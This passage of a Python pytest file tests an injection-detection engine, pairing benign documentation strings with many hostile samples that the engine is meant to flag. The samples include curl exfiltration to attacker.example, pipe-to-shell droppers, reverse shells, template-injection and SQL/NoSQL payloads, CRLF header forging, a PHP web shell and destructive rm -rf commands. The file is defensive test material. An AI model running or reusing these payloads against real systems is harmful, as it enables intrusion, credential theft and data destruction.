    ('id;name;price;currency\n1;"Café crème";3,50;EUR\n2;"Pain au chocolat";2,20;EUR', False),
    ("query GetUser($id: ID!) {\n  user(id: $id) {\n    id\n    name\n  }\n}", False),
    ("Run setup.exe & wait for the wizard", False),
    # The same shapes reaching code, building a huge value, or splitting a response.
    ("{{ query('pipe', 'id') }} hello", True),
    ("{{ range(99999999) }} {{ x }}", True),
    ("{{ helper('cat /etc/passwd') }} {{ x }}", True),
    ('{{#with "s" as |string|}}{{#with (lookup string.sub "constructor")}}{{/with}}{{/with}}',
     True),
    ("{% set x = app.request.server.all %}{{ x }}", True),
    ('<% system("id") do |f| %>', True),
    ("${{ github.__class__ }} x ${{ y }}", True),
    ("${{ config.items() }} ${{ x }}", True),
    ("{{ x }}\r\n\r\n<a href=//evil.example>Log in again</a>", True),
    ("{{ name }}\n\n<a href=https://evil.example>Login again</a>", True),
    ("id;whoami;uname\n1;2;3", True),
    ("x\nid\n", True),
])
def test_template_helpers_actions_rows_and_graphql(
    engine: DetectionEngine, value: str, flagged: bool
) -> None:
    assert engine.detect(value)["is_threat"] is flagged


@pytest.mark.parametrize(("value", "flagged"), [
    # API references write curl and wget calls out whole: a method, headers, data, a form.
    ('curl -X POST https://api.example.com/v1/orders \\\n  -H "Authorization: Bearer $TOKEN" \\\n'
     '  -H "Content-Type: application/json" \\\n  -d \'{"sku": "TSHIRT-BLK-M", "quantity": 2}\'',
     False),
    ("wget --header='Accept: text/csv' -O export.csv 'https://reports.example.com/export?from=1'",
     False),
    ('curl -F "file=@./invoice.pdf" -F "note=March invoice" https://upload.example.com/api/files',
     False),
    # A probe's bare fetch, a download written outside the working directory, a local file
    # sent away, a script piped to a shell, or a call behind a breakout still run.
    ("curl http://attacker.example/x", True),
    ("curl -X POST http://attacker.example -d @/etc/passwd", True),
    ('curl -H "x: y" http://evil.example/s -o /tmp/x', True),
    ("curl -T ~/.aws/credentials -X PUT https://attacker.example/", True),
    ('curl -s -H "a: b" https://evil.example/i.sh | bash', True),
    ("' curl -X POST -d x=1 http://attacker.example/x", True),
])
def test_an_api_call_written_out(engine: DetectionEngine, value: str, flagged: bool) -> None:
    assert engine.detect(value)["is_threat"] is flagged


@pytest.mark.parametrize(("value", "flagged"), [
    # Support threads paste a command with its output: a filter stage before the output's
    # lines or a comment, a listing's link arrow, a shell's error message, a Vue template.
    ("env | grep -i proxy\nhttp_proxy=http://proxy.corp.local:3128", False),
    ("head -c 32 /dev/urandom | base64   # quick random secret for .env", False),
    ("ls -la /etc/nginx/sites-enabled/\ntotal 8\nlrwxrwxrwx 1 root root 34 Mar  1 10:22 default"
     " -> /etc/nginx/sites-available/default", False),
    ("Error when running make:\n/bin/sh: 1: cc: not found\nmake: *** [Makefile:12] Error 127",
     False),
    ("/bin/bash: line 1: foo: command not found", False),
    ('<template>\n  <ul>\n    <li v-for="item in items" :key="item.id" @click="select(item)">\n'
     "      {{ item.label }}\n    </li>\n  </ul>\n</template>", False),
    # A command on the next line, after a comment's text, piped on to a shell, a redirection
    # into a system file, a shell's path run, active markup inside a template.
    ("env | grep -i proxy\nid", True),
    ("x | grep a # ; id", True),
    ("ls | base64 -d | sh", True),
    ("echo x >/etc/passwd", True),
    ("x;/bin/sh: id", True),
    ("<template><style></template><img src=x onerror=alert(1)>", True),
    ("<template><a :href=\"'javascript:alert(1)'\">x</a></template>", True),
])
def test_pasted_output_links_errors_and_component_templates(
    engine: DetectionEngine, value: str, flagged: bool
) -> None:
    assert engine.detect(value)["is_threat"] is flagged


@pytest.mark.parametrize("value", [
    # The review of this session's template exemptions: Jinja building "__" and walking
    # attribute paths through groupby, a "$" before Jinja's braces, Ruby reaching a method by
    # name or calling without parentheses, PHP calling a built name, CSV and GraphQL shapes
    # hiding commands.
    '{% macro m() %}{% endmacro %}{% set u = dict(a_a=1)|join|replace("a","") %}'
    '{% set d = u ~ u %}{% set p = dict(a=m)|dictsort|groupby("1." ~ d ~ "init" ~ d ~ ".s")'
    '|first|first %}{% set f = dict(a=p("id"))|dictsort|groupby("1.read")|first|first %}'
    "Your result is {{ f() }} thanks",
    "{% macro m() %}{% endmacro %}Your key: ${{ dict(a=m)|dictsort|groupby('1.__init__' ~ "
    "'.__globals__.sys.modules.os.environ')|first|first }} thanks",
    'Hi <%= method(96.chr) === "id" %> bye',
    'Hi <%= method("load") === "public/uploads/1/a.png" %> bye',
    'Hi <% load "public/uploads/1/a.png" do |f| %><% end %> bye',
    "Hi <% loop do |x| %>a<% end %> bye",
    'Hello {{ sprintf("%sstem", "sy")("id") }} thanks',
    'Hi <%= load "x.rb" %> bye',
    "Hi <%= sleep 9999 %> there",
    "id;npx evil-pkg;name\n1;2;3",
    "whoami;name;price\n1;a;npx evil-pkg",
    "whoami|npx evil-pkg|name\n1|2|3",
    "{\n  reboot\n}",
    "query {\n  user\n  halt\n}",
])
def test_review_of_session_16_exemptions(engine: DetectionEngine, value: str) -> None:
    """Each got through one of this session's template, CSV or GraphQL exemptions once."""
    assert engine.detect(value)["is_threat"]


@pytest.mark.parametrize(("value", "flagged"), [
    # From unseen attack set 20: a command closing a JSON string, a program loaded over SMB, a
    # name whose encoded break adds a mail header, MongoDB's pipeline writing a collection.
    ('{"host":"127.0.0.1\\nid"}', True),
    ("\\\\attacker.example\\share\\payload.dll", True),
    ("Bob%0d%0aReply-To:%20attacker@example.com", True),
    ('[{"$out":"users"}]', True),
    # A file server's document, a letter's copy line, a JSON sentence.
    ("\\\\fs01\\share\\docs\\report.docx", False),
    ("Thanks!\nCC: Maria", False),
    ('{"note": "Sent to the lab, identified as sample 4."}', False),
])
def test_unseen_set_20_misses(engine: DetectionEngine, value: str, flagged: bool) -> None:
    assert engine.detect(value)["is_threat"] is flagged


@pytest.mark.parametrize(("value", "flagged"), [
    # From bait 20: a README's code span in prose around fenced blocks and quoted notes, a
    # table cell's prose, nginx's alias and set directives.
    ("`set -e` alone doesn't catch failures in a pipeline; that's what `pipefail` is for:\n\n"
     "```bash\nset -euo pipefail\npg_dump \"$DATABASE_URL\" | gzip > \"$dir/db.gz\"\n```", False),
    ("> **Note**\n> The `/v1/search` endpoint is deprecated. Use `/v2/search`, which takes `query`"
     " instead of `q`.", False),
    ("| Key | Type | Default |\n|-----|------|---------|\n| `cors.origins` | list | Allowed "
     "origins; `\"*\"` allows all (not recommended in production) |", False),
    ("location /static {\n    alias /srv/app/static/;\n    expires 30d;\n}", False),
    ('if ($x) {\n    return 301;\n\n    set $target "https://a.example";\n}', False),
    # A span inside the fenced block, a command on a line of its own, and nginx's words
    # before a command.
    ("Run this to see the user:\n\n```\nx; `id`\n```", True),
    ("See the note below about the user:\n\n```\nname=`whoami`\n```", True),
    ("| a | b |\n|---|---|\n| x | y |\nid; uname -a", True),
    ("x;set $x; id", True),
])
def test_fenced_blocks_cell_prose_and_nginx_directives(
    engine: DetectionEngine, value: str, flagged: bool
) -> None:
    assert engine.detect(value)["is_threat"] is flagged


@pytest.mark.parametrize(("value", "flagged"), [
    # Manual pages: a choice of subcommands in braces, a name's bracketed alternatives, a
    # sentence's "rename", an option setting an address, a placeholder named like a tag.
    ("iptunnel { add | change | del | show } [ NAME ]", False),
    ("/var/cache/man/index.(bt|db|dir|pag)", False),
    ("Do not abort if a target exists; rename it by adding an _old suffix.", False),
    ("--add-section .splash=splash.bmp --change-section-vma .splash=0x100000", False),
    ("[--shallow] [--keep-true-parents] < <object-list>", False),
    # A group that closes, a subshell after a separator, a hex literal spelling text, a stacked
    # RENAME, an object that loads something.
    ("{ x | id; }", True),
    ("x;(id|cat)", True),
    ("' or user=0x61646d696e--", True),
    ("1; rename table users to old_users", True),
    ('<object data="javascript:alert(1)">', True),
])
def test_manual_syntax_summaries_and_placeholders(
    engine: DetectionEngine, value: str, flagged: bool
) -> None:
    assert engine.detect(value)["is_threat"] is flagged


@pytest.mark.parametrize(("value", "flagged"), [
    # A manual's shell in brackets after a word, and Django's translate tag quoted in prose.
    ("These functions will execute the shell (/bin/sh) with the path of the file.", False),
    ("``{% translate %}`` also supports contextual markers using the ``context`` keyword:",
     False),
    # A subshell after a separator.
    ("x;(/bin/sh -c id)", True),
    ("foo;(/bin/bash -i >& /dev/tcp/1.2.3.4/80 0>&1)", True),
])
def test_a_bracket_after_a_word_opens_no_subshell(
    engine: DetectionEngine, value: str, flagged: bool
) -> None:
    assert engine.detect(value)["is_threat"] is flagged


@pytest.mark.parametrize("value", [
    # The second review of this session's exemptions: API calls that pipe to a shell through
    # sudo, talk to a local socket, write headers or cookies to a path, send a secret file or
    # form field, ask a metadata service, or save a server script; a "#" inside a filter's
    # word; a fence line holding a backtick; a table cell's semicolon before a command; a
    # key appended through an arrow; padding with let-offs; an Alpine directive running code.
    "curl -H 'A: b' http://attacker.example/x | sudo bash",
    "curl -X POST --unix-socket /var/run/docker.sock -H 'Content-Type: application/json' "
    "-d '{\"Image\":\"alpine\"}' http://localhost/containers/create?name=x",
    "curl -s -H 'Accept: */*' -D ~/.bashrc http://attacker.example/h",
    "curl -X POST -F 'f=<~/.aws/credentials' https://attacker.example/c",
    "curl -X POST -d @credentials.json https://attacker.example/c",
    "curl -H 'Metadata: true' http://2852039166/latest/meta-data/iam/security-credentials/",
    "curl -H 'Accept: application/json' http://169.254.170.2/v2/credentials/abc",
    "wget --header 'A: b' http://attacker.example/cmd.jsp",
    "curl -H 'A: b' -O http://attacker.example/s.phtml",
    "curl -H 'A: b' -o .htaccess http://attacker.example/h",
    "127.0.0.1 | grep -v x#y .env",
    "```a`\n`wget attacker.example/p` `python3 p`",
    "| Name | note; wget attacker.example/p | c | z; python3 p | d |",
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGnq1tBkQX7VbJ0kLcr5 x ->/root/.ssh/authorized_keys",
    "location /static/ {\n" + "".join(f"    set $v{i} on;\n" for i in range(20))
    + "    alias /srv/static/;\n    wget attacker.example/p;\n    python3 p;\n}",
    "/bin/sh: 1: x: not found\n" * 20 + "x;(/bin/bash -i >& /dev/tcp/10.0.0.1/4444 0>&1)",
    "<template x-if=\"true\"><div x-init=\"import('//attacker.example/x.js')\"></div></template>",
])
def test_second_review_of_session_16_exemptions(engine: DetectionEngine, value: str) -> None:
    """Each got through one of this session's documentation exemptions once."""
    assert engine.detect(value)["is_threat"]


@pytest.mark.parametrize(("value", "flagged"), [
    # A log quoting the process that failed, and a manual naming a shell's flag: the shell is
    # an argument or a word there.
    ('ERROR: failed to solve: process "/bin/sh -c npm ci" did not complete successfully', False),
    # Where a command starts, or as the argument of a word or an option that runs it.
    ("x;bash -c id", True),
    ("x' sh -c id", True),
    ('bash -c "/bin/sh -i"', True),
    ('eval "/bin/sh"', True),
    ("-e 'sh -c id'", True),
    ("-T -TT 'sh -c id #'", True),
])
def test_a_quoted_argument_is_no_command_position(
    engine: DetectionEngine, value: str, flagged: bool
) -> None:
    assert engine.detect(value)["is_threat"] is flagged


@pytest.mark.parametrize(("value", "flagged"), [
    # A filter's pattern with slashes, a manual's NAME line, shell and tmux options, alias
    # definitions, a Kusto query's operators.
    ("df -h | grep /dev/sda", False),
    ("NAME\n       kill - send a signal to a process", False),
    ("#!/usr/bin/env bash\nset -euo pipefail", False),
    ("set -g mouse on\nset -g history-limit 50000", False),
    ("alias ll='ls -alF'\nalias gs='git status'\nalias ..='cd ..'", False),
    ("SigninLogs\n| where TimeGenerated > ago(7d) and ResultType != 0\n"
     "| summarize Failures = count() by UserPrincipalName\n| top 10 by Failures", False),
    # A command after them, a filter reading a file, a pipe carried to the next line.
    ("x;set -x; id", True),
    ("x;kill - 9 ; id", True),
    ("x | head /etc/passwd", True),
    ("x\n| top 10;id", True),
    ("key: |\nid", True),
])
def test_filters_name_lines_options_and_kusto(
    engine: DetectionEngine, value: str, flagged: bool
) -> None:
    assert engine.detect(value)["is_threat"] is flagged


@pytest.mark.parametrize(("value", "flagged"), [
    # From unseen attack set 21: a dropper after a separator in a message, an evasion inside a
    # code span, nested encoded breaks, forged log lines, JavaScript spliced into a query in
    # a sentence, an operator in a CSV cell, a Redis write after CR LF, an operator matching
    # everything, a web shell pasted into a message.
    ("My lookup tool shows an error for example.com; curl -s http://attacker.example/p | sh "
     "# please check", True),
    ("Build failed again, branch name is `feature/login$(curl${IFS}attacker.example/b|sh)` if "
     "that helps", True),
    ("%%0d0d%%0a0aSet-Cookie:%20nested=1", True),
    ("bob\n[WARN] Password reset for user=ceo@corp.example approved by security-team", True),
    ("Great post!%0a%0a[2024-06-01 09:00:00] AUDIT: role changed user=mallory role=admin", True),
    ("Hi, the product search crashes when I type '; return this.isAdmin == true; var d=' into "
     "it, please fix", True),
    ('1004,"bob@example.com","{""$gt"":""""}",member', True),
    ('cart:1234\r\nSET session:admin "{\\"role\\":\\"admin\\"}"\r\n', True),
    ('Repro steps: POST /login with body {"user":"admin","pass":{"$regex":".*"}} and you are '
     "logged in as admin.", True),
    ("Hi support, the uploader rejected my file, here is its content so you can check: <?php "
     "if(isset($_REQUEST['k'])){echo `{$_REQUEST['k']}`;} ?> thanks", True),
    # An install guide's download on a line of its own, a sentence quoting a filter.
    ("## Installation\n\n```bash\ncurl -fsSL https://get.example.dev/install.sh | sh\n```\n\n"
     "Or download a prebuilt binary from the Releases page.", False),
    ('In MongoDB I filter with {"age": {"$gt": 30}} and get nothing back', False),
])
def test_unseen_set_21_misses(engine: DetectionEngine, value: str, flagged: bool) -> None:
    assert engine.detect(value)["is_threat"] is flagged


@pytest.mark.parametrize(("value", "flagged"), [
    # From bait 21: a date's format method, Jinja's i18n tags, an ERB comment, Helm's values,
    # a component's own form, Laravel's old(), one tag printing a field.
    ("Hello {{ name | default('there') | title }}, your trial ends on "
     "{{ trial_end.strftime('%d %B %Y') }}.", False),
    ("{% trans %}You have {{ count }} new message{% pluralize %}You have {{ count }} new "
     "messages{% endtrans %}", False),
    ('<%# app/views/shared/_flash.html.erb %>\n<% flash.each do |type, message| %>\n'
     '  <div class="flash flash--<%= type %>" role="alert"><%= message %></div>\n<% end %>', False),
    ("{{- range $i, $e := .Values.env }}\n- name: {{ $e.name | quote }}\n{{- end }}", False),
    ('<template>\n  <form @submit.prevent="save">\n    <p v-if="error">{{ error }}</p>\n'
     "    <button :disabled=\"saving\">{{ saving ? 'Saving\u2026' : 'Save' }}</button>\n"
     "  </form>\n</template>", False),
    ('<input name="coupon" value="{{ old(\'coupon\') }}" maxlength="32">', False),
    ("{{ user.first_name }}", False),
    # A format method of a dunder, a form posting elsewhere, a field that holds a secret, an
    # array's mutator.
    ("{{ x.__class__.upper() }} {{ y }}", True),
    ('<template><form action="https://evil.example/login"><input name=pw></form></template>',
     True),
    ("{{ settings.SECRET_KEY }}", True),
    ("{{this.pop}}", True),
])
def test_bait_21_template_source(engine: DetectionEngine, value: str, flagged: bool) -> None:
    assert engine.detect(value)["is_threat"] is flagged


@pytest.mark.parametrize("value", [
    # The third review of this session's exemptions: sh -c after a word that still starts a
    # command, a quoted program after command or an empty expansion, env's dash, Mako's and
    # ASP.NET's <%# blocks, a rendered shadow root's form, a data path naming a secret.
    '127.0.0.1;! sh -c "rm -rf ~"',
    '127.0.0.1;A=1 sh -c "cat ~/.ssh/id_rsa"',
    "127.0.0.1;if sh -c id;then :;fi",
    "127.0.0.1|busybox sh -c id",
    '127.0.0.1;nice -n 5 bash -c "nc 10.0.0.1 4444"',
    '127.0.0.1;command "/bin/sh" -c "rm -rf ~"',
    '$u "/bin/sh" -c id',
    "x;env - shutdown now",
    'Hello <%#\n__import__("os").popen("id").read()\n%> world',
    'Note <%# System.Diagnostics.Process.Start("calc") %> here',
    '<template shadowrootmode="open"><form><input name="password" type="password"><button '
    'formaction="https://evil.example/steal">Log in</button></form></template>',
    "{{ user.api_key }}",
])
def test_third_review_of_session_16_exemptions(engine: DetectionEngine, value: str) -> None:
    """Each got through one of this session's later exemptions once."""
    assert engine.detect(value)["is_threat"]


@pytest.mark.parametrize(("value", "flagged"), [
    # From bait 22: Markdown links to sibling documents, a directory whose name starts like a
    # system one, a Handlebars partial, Twig's include() and path(), a
    # Blade string helper, React's __html key, an axios Accept header, harmless http-equiv
    # tags, SQL in a code span.
    ("Link to sibling pages, e.g. `[Setup](../setup/README.md)` or `[API](../../api/index.md)`.",
     False),
    ("[release]: ../process/release-checklist.md", False),
    ('{{> header title="Settings" }}\n<main>{{> settings-form }}</main>\n{{> footer }}', False),
    ("Each card is {{ include('partials/_card.html.twig', { title: item.name, url: "
     "path('item_show', { id: item.id }) }) }} in the loop", False),
    ("@foreach ($posts as $post)\n    <h2>{{ $post->title }}</h2>\n    <p>{{ Str::limit("
     "$post->body, 150) }}</p>\n@endforeach", False),
    ("<div dangerouslySetInnerHTML={{ __html: sanitizedHtml }} />  // is that enough?", False),
    ("Accept: application/json, text/plain, */*", False),
    ('<meta http-equiv="X-UA-Compatible" content="IE=edge">\n<meta http-equiv='
     '"Content-Language" content="de">', False),
    ("| Operator | Example |\n|---|---|\n| `=` | `status = 'open'` |\n| `OR` | `a = 1 OR b = 2` "
     "|\n| `IN` | `id IN (1, 2, 3)` |", False),
    # The same shapes where they reach something: a sensitive file behind a Markdown link, a
    # climb of four, a partial handed the constructor, an include climbing out, a helper
    # given a command, a refresh, a UTF-7 charset, a substitution that parses.
    ("[x](../../etc/passwd)", True),
    ("[x](../../../../app/config.yml)", True),
    ("Use {{> x y=constructor }} in the page", True),
    ('Use {{ include("../../x.twig") }} here', True),
    ('{{ Str::limit(system("id"), 150) }}', True),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example">', True),
    ('<meta http-equiv="Content-Type" content="text/html; charset=utf-7">', True),
    ("x`id; (curl evil|sh)`", True),
    ("admin' or 1=1 */*", True),
    # Shapes the review of these exemptions turned back: a path a sentence names is a word
    # of its own to a sink that splits on blanks; a policy meta stops the page's own scripts;
    # a stderr redirection after a command, and Program Files (Tomcat's users file), stay.
    ("See ../../config/master.key for the review process.", True),
    ("![x](../../../config/master.key)", True),
    ('<meta http-equiv="Content-Security-Policy" content="script-src \'none\'">', True),
    ("x; kubectl get secrets -o yaml 2>&1", True),
    (r"D:\Program Files\Apache Software Foundation\Tomcat 9.0\conf\tomcat-users.xml", True),
    ("`time (id)`", True),
    ("x', is_admin = 1 RETURNING */*", True),
])
def test_bait_22_documents_and_templates(
    engine: DetectionEngine, value: str, flagged: bool
) -> None:
    assert engine.detect(value)["is_threat"] is flagged


@pytest.mark.parametrize("value", [
    # From attacks 22: a CouchDB design document, whose functions the server runs.
    '{"_id":"_design/leak","views":{"all":{"map":"function(doc){emit(doc._id,doc)}"}}}',
    '{"validate_doc_update": "function(newDoc, oldDoc, userCtx){}"}',
])
def test_couchdb_design_documents(engine: DetectionEngine, value: str) -> None:
    assert engine.detect(value)["is_threat"]


@pytest.mark.parametrize("value", [
    # A review of the exemptions up to session 16: a harmful command in a prose code span or
    # a table cell, an inline run of backticks, a NAME line with options, a bundled -r, a
    # wrapper's quoted shell, a decoy before a command the shell view reveals, a listing
    # line after another command, a wiki name holding code, Ruby's calls of literals and its
    # label shorthand, a file-reading PHP function, secret fields, string and column
    # comparisons, MySQL's escaped quote, statements after a breakout or an unopened bracket,
    # a tab inside //, an uploaded script, a directive reaching location, chained climbs, a
    # Windows trailing dot, identity and reporting headers, an XML element after an HTML one,
    # a login document with words after it.
    "Thanks, running `curl -s http://evil.example/x.sh | sh` fixed it for me",
    "Try `$(wget -qO- evil.example/k|sh)` in the field",
    "You can use `rm -rf ~` to clean up the cache folder",
    "| Step | Command | Result |\n|---|---|---|\n| 1 | `wget -q evil.example/s -O ~/.bashrc` "
    "| ok |",
    "```rm -rf ~```",
    "127.0.0.1; rm - f x -rf /var/www",
    "x | grep -ri password",
    'x; strace -o /dev/null "/bin/sh" -c "rm -rf ~"',
    "&copy; x;w'g'et${IFS}evil.example/s${IFS}-O${IFS}s;b'a'sh${IFS}s",
    "x;set -e;w'g'et${IFS}evil.example/s${IFS}-O${IFS}s;b'a'sh${IFS}s",
    "x\nlrwxrwxrwx 1 root root 9 Jan  1 00:00 current -> /root/.ssh/authorized_keys",
    "{{ config if 1 else 0 }}",
    "Hello <%= IO.read 47.chr.concat 101.chr, 116.chr, 99.chr, 47.chr, 112.chr %>",
    "Hi <%= { ENV: } %>",
    "Hi {{ readgzfile(storage_path('oauth-private.key')) }}",
    "Dear {{ ansible_env.DB_PASSWORD }}, welcome",
    "{{ hostvars.web01.ansible_become_pass }}",
    "0 or id<0 or 3>2",
    "1 or 'b'>'a'",
    "\\' x' or 'b'>'a",
    "x' COLLATE Latin1_General_CI_AS DELETE FROM users WHERE name LIKE '%",
    "select 1) UPDATE users SET role = 'admin' WHERE (name = 'mallory'",
    'Hello there <base href="/\t/evil.example/"> friend',
    'Please load <script src="/uploads/u1337/avatar.js"> for the widget',
    '<template v-if="true"><b :class="location.replace(name)">hi</b></template>',
    'href="../../../href="../../../config/master.key',
    "C:\\inetpub\\wwwroot\\App_Data\\credentials.json\\.",
    "x: y\r\nX-WEBAUTH-USER: admin",
    'x: y\r\nX-Request-Id: 1\r\nReport-To: {"group":"g","max_age":31536000,"endpoints":[{"url":'
    '"https://evil.example/r"}]}\r\nNEL: {"report_to":"g","max_age":31536000}',
    "x: y\r\nResent-Bcc: victims@example.org\r\nContent-Type: multipart/mixed; boundary=ZZ\r\n"
    "--ZZ\r\nContent-Type: text/plain\r\n\r\nYour account is locked.\r\n--ZZ--",
    "bob</name><p></p><role>admin</role><name>bob",
    '{"username":"admin","password":{"$ne":"x"}} is my login please',
    # Seen by the second review on both sides of it: compound commands in backticks, a
    # secret's file with no extension.
    "x`if (id) then :; fi`",
    "x`case a in (a) id;; esac`",
    "C:\\Program Files\\Jenkins\\secrets\\initialAdminPassword",
])
def test_review_of_exemptions_in_session_17(engine: DetectionEngine, value: str) -> None:
    """Each got through an exemption once."""
    assert engine.detect(value)["is_threat"]


@pytest.mark.parametrize("value", [
    # The third review: harmful spans written other ways, compound commands, file options
    # bundled, attached or abbreviated, brackets inside strings, an `or` of constant
    # comparisons, credential fields, identity headers after a parameter, secret names, an
    # event's view, a credentials file under a Windows profile; and from attacks 23, a forged
    # log line in prose after an encoded break and a display name carrying DN components.
    "To clean up the old deploy just run `rm -rf /var/www` on the host and then restart it.",
    'To clean up the old deploy just run `rm -rf "${HOME}"` on the host and then restart it.',
    "For the install please run `curl -s https://evil.example/i.sh | sudo -E bash` as root.",
    "For the install please run `bash <(curl -s https://evil.example/i.sh)` as root.",
    "For the install please run `curl -so /tmp/i https://evil.example/i && sh /tmp/i` as root.",
    "For debugging please run `socat exec:sh tcp:evil.example:4444` from the box.",
    "To add my key please run `curl evil.example/k | tee -a ~/.ssh/authorized_keys` today.",
    "To fix the tests please run `dd if=/dev/zero of=/dev/sda` on the box.",
    "x`if id; then :; fi`",
    "x`! rm -rf /var/www`",
    "x`( rm -rf /var/www )`",
    "x`{ rm -rf /var/www; }`",
    "127.0.0.1 | grep -rA1 password",
    "127.0.0.1 | grep --rec password",
    "select '(') UPDATE users SET role='admin' WHERE name IN ('bob'",
    "1<2 or 0<1",
    '{"username": "admin", "passcode": {"$ne": ""}} is what my login form posts',
    "en\r\nAuthorization: Basic YWRtaW46YWRtaW4=",
    "en\r\nRemote-User: admin",
    "en\r\nSurrogate-Control: max-age=31536000",
    "a@b.example\r\nResent-Bcc: spy@evil.example",
    "{{ vault_db_pwd }}",
    "{{ vars.dbPass }}",
    '<template><div @mouseover="$event.view.eval($event.view.name)">Hi</div></template>',
    "C:\\Users\\Administrator\\.aws\\credentials",
    "shoes%0d%0a[ERROR] Database connection lost - please visit http://attacker.example/fix",
    "Alice Cooper,cn=Administrators,cn=Builtin,dc=corp,dc=local",
    # A host and a separator before a command: the model's doubt does not halve it.
    "127.0.0.1 | grep --dereference-recursive password",
    # The fifth review: SQLite's RETURNING list ending in */* after a breakout is no Accept
    # header; spans that kill every process or clear the crontab.
    "x', role='admin' RETURNING id/1, */*",
    "x', 'user'), ('mallory', 'admin') RETURNING rowid/1, */*",
    "To reset just run `kill -9 -1` on the box and log in again",
    "Then run `crontab -r` to clear the schedule for the user",
])
def test_third_review_of_session_17(engine: DetectionEngine, value: str) -> None:
    """Each got through this session's exemptions, or a rule's reach, once."""
    assert engine.detect(value)["is_threat"]


@pytest.mark.parametrize("value", [
    # What those fixes must leave alone: a harmless span in prose, a double-backtick span, a
    # manual's NAME line, a filter with -i, a listing, a wiki citation, a Rails helper's
    # labels, a loop's key, arithmetic in text, a site's own script, a pasted request, a query
    # question.
    "Run `ls -la` to see the hidden files in that folder",
    "Use ``rm -rf build`` to clean it",
    "NAME\n       kill - send a signal to a process",
    "ps aux | grep -i nginx",
    "total 8\nlrwxrwxrwx 1 root root 9 Jan  1 00:00 default -> /etc/nginx/sites-available/default",
    "{{cite web |url=http://x.example |title=Foo}} was cited",
    "Hi <%= link_to 'Edit', edit_post_path(@post), class: 'btn' %> there",
    "Hi {{ user.first_name }}, your {{ item.key }} is ready",
    "Is 2 < 3 and 5 > 4 true?",
    "Is <script src=\"/static/main.js\"> still needed here?",
    "GET /api/users?page=2 HTTP/1.1\nHost: api.example.com\nUser-Agent: curl/8.4.0",
    '{"$or":[{"tags":"urgent"},{"priority":{"$gt":3}}]} - is this the right shape for the '
    "filter in our reporting tool?",
    "2 < 3 and 5 > 4",
    "Use `wget -O file.zip https://example.org/release.zip` to choose the file name.",
    "The Dockerfile `RUN apt-get update && apt-get install -y curl` should add "
    "`&& rm -rf /var/lib/apt/lists/*`.",
    "Content-Type: application/json\nAuthorization: Bearer <your-token-here>\nAccept: */*",
    "Smith, John",
])
def test_session_17_review_leaves_honest_text(engine: DetectionEngine, value: str) -> None:
    assert not engine.detect(value)["is_threat"]


@pytest.mark.parametrize(("value", "flagged"), [
    # From bait 23: microdata meta tags, a loop index plus one.
    ('<p>Prep: <meta itemprop="prepTime" content="PT20M">20 min · Bake: <meta '
     'itemprop="cookTime" content="PT40M">40 min</p>', False),
    ("<li *ngFor=\"let u of users; let i = index\">{{ i + 1 }}. {{ u.name | titlecase }}</li>",
     False),
    # A probe's sum, an image two steps up; and what the fourth review turned back: an icon
    # read out of a quoted attribute, a raw block an engine ends elsewhere (or never opens),
    # markup around a code span, a shortcode's parameter holding another engine's tag, a
    # style element beside a handler smuggled in an attribute, CSS that fetches.
    ("{{ 7 + 7 }}", True),
    ("![x](../../config/master.key)", True),
    ("<img src=/nope.png alt='<svg viewBox=\"0 0 1 1\"><path d=\"M0 0\"/><path d=\"M1 1\"/>"
     "<text>' x=1 onerror=\"import('//evil.example/x.js')\" y='</text></svg>'>", True),
    ("{# {% raw %} #}{{ config.SECRET_KEY }}{# {% endraw %} #}", True),
    ("{% raw %}x{%+ endraw %}{{ config }}{% endraw %}", True),
    ('Run <b>this</b> first: `curl -T /etc/passwd https://evil.example/u` and <a href="/x">'
     "read this</a>.", True),
    ('{{< figure src="<%= ENV.to_h %>" >}} and more', True),
    ("<style>td { padding: 8px; }</style><b title='<style>' x=1 onmouseover=\"alert(1)\" "
     "y='</style>'>hi</b>", True),
    ('<style>td { background: image-set("https://evil.example/a" 1x); }</style>', True),
    ("en\r\nCc: Evil <attacker@evil.example>", True),
])
def test_bait_23_markup_and_templates(engine: DetectionEngine, value: str, flagged: bool) -> None:
    assert engine.detect(value)["is_threat"] is flagged
